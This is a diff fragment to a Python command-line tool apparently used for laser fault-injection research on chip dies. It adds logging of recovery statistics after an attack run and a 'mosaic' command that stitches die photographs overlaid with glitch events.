+
+    for action in RecoveryAction:
+        if health_monitor.stats.actions[action]:
+            logging.info(
+                f"{action.name}: {health_monitor.stats.actions[action]} recoveries, "
+                f"{100 * health_monitor.stats.recovery_rate(action):.0f} % successful"
+            )
+    if health_monitor.stats.recovery_times:
+        mean_recovery_time = sum(health_monitor.stats.recovery_times) / len(
+            health_monitor.stats.recovery_times
+        )
+        logging.info(f"Mean recovery time: {mean_recovery_time:.1f} s")
+
+    if schedule:
+        ctrl.clear_schedule()
     ctrl.cancel_glitch_engine()
     ctrl.set_power(False)
 
@@ -300,5 +1087,23 @@ def attack(
         laser_pulser.set_power(False)
 
 
+@app.command()
+def mosaic(
+    capture_dir: Annotated[
+        Path, typer.Option(help="Directory of the pictures taken during an attack")
+    ],
+    output: Annotated[Path, typer.Option(help="Mosaic image")] = Path("mosaic.jpeg"),
+    steps_per_pixel: Annotated[
+        float, typer.Option(help="Delta stage steps per pixel of the pictures")
+    ] = 1.0,
+    scale: Annotated[
+        float, typer.Option(help="Downsampling factor of the pictures")
+    ] = 0.125,
+) -> None:
+    """Stitch the pictures of the die into a mosaic, overlaid with glitch events."""
+    build_mosaic(capture_dir, output, steps_per_pixel, scale)
+    logging.info(f"Mosaic written to {output}")
+
+
 if __name__ == "__main__":
     app()